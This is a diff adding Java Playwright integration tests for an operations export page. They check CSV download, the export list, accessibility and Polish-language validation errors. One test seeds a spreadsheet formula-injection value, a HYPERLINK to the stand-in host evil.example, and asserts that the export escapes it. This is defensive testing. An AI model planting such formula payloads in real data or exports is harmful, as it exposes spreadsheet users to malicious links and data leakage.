@@ -1,0 +1,76 @@
+package org.opsdesk.exports;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.util.UUID;
+import org.junit.jupiter.api.Test;
+import org.opsdesk.support.Operations;
+import org.opsdesk.support.browser.BrowserTest;
+
+/** An operator exports a filter from the exports page in Chromium, opens the file, and finds it in the list. */
+class ExportBrowserIntegrationTests extends BrowserTest {
+
+    @Test
+    void exportsAFilterFromTheExportsPageAndFindsItInTheList() throws IOException {
+        var operator = operatorWithMfa("compliance");
+        String subject = "browser-" + UUID.randomUUID().toString().substring(0, 8);
+        var formula = Operations.withdrawal()
+                .subject(subject)
+                .reference("=HYPERLINK(http://evil.example/" + UUID.randomUUID() + ")");
+        var plain = Operations.withdrawal().subject(subject).amount("99.95", "EUR");
+        create(formula);
+        create(plain);
+        create(Operations.withdrawal());
+
+        signIn(page, operator);
+        page.navigate("/exports");
+        assertThat(page.locator("h1")).hasText("Exports");
+        page.locator("#f-subject").fill(subject);
+        page.locator("#f-separator").selectOption(";");
+        page.locator("#f-bom").check();
+        assertNoSeriousA11yViolations(page);
+        screenshot(page, "form");
+        var download = page.waitForDownload(
+                () -> page.locator("#export-form button[type=submit]").click());
+
+        assertThat(download.suggestedFilename()).matches("operations-\\d{8}T\\d{6}Z\\.csv");
+        var csv = ExportedCsv.parse(Files.readString(download.path(), StandardCharsets.UTF_8), ';');
+        assertThat(csv.bom()).isTrue();
+        assertThat(csv.column("reference")).containsExactlyInAnyOrder("'" + formula.reference(), plain.reference());
+        assertThat(csv.byReference(plain.reference()).orElseThrow()).containsEntry("amount", "99.95");
+
+        page.navigate("/exports");
+        var row = page.locator("#exports tbody tr").first();
+        assertThat(row.locator("td.filter")).hasText("subject=" + subject);
+        assertThat(row.locator("td.rows")).hasText("2");
+        assertThat(row.locator("td.outcome .badge")).hasText("Completed");
+        assertThat(row).containsText(operator.username());
+        assertNoSeriousA11yViolations(page);
+        assertNoMissingMessageKeys(page);
+        assertThat(Files.size(screenshot(page, "list"))).isPositive();
+    }
+
+    @Test
+    void showsWhyAFilterCannotBeExportedBesideTheFormInTheOperatorsLanguage() {
+        var operator = operatorWithMfa("auditor");
+
+        signIn(page, operator);
+        page.navigate("/exports?lang=pl");
+        page.locator("#f-amountMin").fill("lots");
+        page.locator("#export-form button[type=submit]").click();
+
+        var error = page.locator("#export-error");
+        assertThat(error).hasAttribute("role", "alert");
+        assertThat(error).containsText("Eksport nie został rozpoczęty");
+        assertThat(error).containsText("Kwota minimalna");
+        assertThat(page.locator("#f-amountMin")).hasValue("lots");
+        assertThat(page.locator("#f-amountMin")).hasAttribute("aria-invalid", "true");
+        assertNoSeriousA11yViolations(page);
+        assertNoMissingMessageKeys(page);
+        screenshot(page, "invalid-filter-pl");
+    }
+}
